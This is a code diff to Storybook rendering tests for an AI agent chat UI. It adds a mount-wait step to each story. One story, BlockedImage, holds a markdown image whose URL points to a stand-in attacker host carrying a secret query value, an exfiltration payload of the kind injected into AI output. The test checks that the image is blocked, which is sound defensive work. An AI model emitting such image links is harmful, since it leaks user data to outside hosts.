@@ -3,6 +3,7 @@ import type { AgentUIMessage, AgentUIMessagePart } from '@x/agent-protocol';
 import { AgentChat, AgentConversations, AgentUIProvider } from '@x/agent-ui';
 import { expect, userEvent, waitFor, within } from 'storybook/test';
 import { scenarioHandlers } from './support/scenario-server.js';
+import { chatMounted } from './support/chat-actions.js';
 
 const meta = {
   title: 'AgentChat/Rendering',
@@ -49,6 +50,7 @@ const darkPage = (Story: () => React.ReactNode) => <div style={{ background: '#1
 export const MarkdownTableAndCode: Story = {
   args: { messages: reply([{ type: 'text', text: MARKDOWN }]) },
   play: async ({ canvasElement }) => {
+    await chatMounted(canvasElement);
     const canvas = within(canvasElement);
     const table = canvas.getByRole('table');
     // Styled by the kit's stylesheet (classes over antd's CSS variables), not inline styles.
@@ -72,6 +74,7 @@ export const MarkdownDark: Story = {
   args: { messages: reply([{ type: 'text', text: MARKDOWN }]), ui: { appearance: { dark: true } } },
   decorators: [darkPage],
   play: async ({ canvasElement }) => {
+    await chatMounted(canvasElement);
     const block = canvasElement.querySelector<HTMLElement>('[data-xagent-code-block="ts"]')!;
     await waitFor(() => expect(block.querySelector('code span[style*="color"]')).not.toBeNull(), { timeout: 10_000 });
     await expect(getComputedStyle(canvasElement.querySelector('[data-xagent-chat]')!).colorScheme).toBe('dark');
@@ -82,6 +85,7 @@ export const MarkdownDark: Story = {
 export const BlockedImage: Story = {
   args: { messages: reply([{ type: 'text', text: 'Here is your chart: ![Sales chart](https://attacker.example/collect?q=secret)' }]) },
   play: async ({ canvasElement }) => {
+    await chatMounted(canvasElement);
     const canvas = within(canvasElement);
     await expect(await canvas.findByRole('button', { name: /Image from attacker\.example/ })).toBeVisible();
     await expect(canvasElement.querySelector('[data-xagent-markdown] img')).toBeNull();
@@ -92,6 +96,7 @@ export const BlockedImage: Story = {
 export const ToolCallsCollapsed: Story = {
   args: { messages: reply([...Array.from({ length: 20 }, (_, i) => lookup(i)), { type: 'text', text: 'All 20 orders are on their way.' }]) },
   play: async ({ canvasElement }) => {
+    await chatMounted(canvasElement);
     const canvas = within(canvasElement);
     const toggle = await canvas.findByRole('button', { name: 'Used lookupOrder 20 times' });
     await expect(toggle.getBoundingClientRect().height).toBeGreaterThanOrEqual(24);
@@ -118,6 +123,7 @@ export const McpResult: Story = {
     ]),
   },
   play: async ({ canvasElement }) => {
+    await chatMounted(canvasElement);
     const card = await within(canvasElement).findByRole('group', { name: 'github.search_issues finished' });
     await expect(card).toHaveTextContent('Found 3 issues');
     await userEvent.click(within(card).getByText('Show full result'));
@@ -145,6 +151,7 @@ const compacted = (): AgentUIMessage[] => [
 export const CompactionMarker: Story = {
   args: { messages: compacted() },
   play: async ({ canvasElement }) => {
+    await chatMounted(canvasElement);
     const toggle = await within(canvasElement).findByRole('button', { name: 'Earlier messages were summarized' });
     await expect(toggle).toHaveAttribute('aria-expanded', 'false');
     await userEvent.click(toggle);
@@ -158,6 +165,7 @@ export const CompactionMarkerDark: Story = {
   args: { ui: { appearance: { dark: true } }, messages: compacted() },
   decorators: [darkPage],
   play: async ({ canvasElement }) => {
+    await chatMounted(canvasElement);
     await userEvent.click(await within(canvasElement).findByRole('button', { name: 'Earlier messages were summarized' }));
     await expect(within(canvasElement).getByText(/flights booked for Friday/)).toBeVisible();
   },
@@ -174,6 +182,7 @@ export const ApprovalDark: Story = {
   },
   decorators: [darkPage],
   play: async ({ canvasElement }) => {
+    await chatMounted(canvasElement);
     await expect(await within(canvasElement).findByRole('button', { name: 'Reject' })).toBeVisible();
   },
 };
@@ -194,6 +203,7 @@ export const ConversationsDark: Story = {
     </div>
   ),
   play: async ({ canvasElement }) => {
+    await chatMounted(canvasElement);
     await expect(getComputedStyle(canvasElement.querySelector('[data-xagent-conversations]')!).colorScheme).toBe('dark');
     await expect(within(canvasElement).getByText('Today')).toBeVisible();
   },
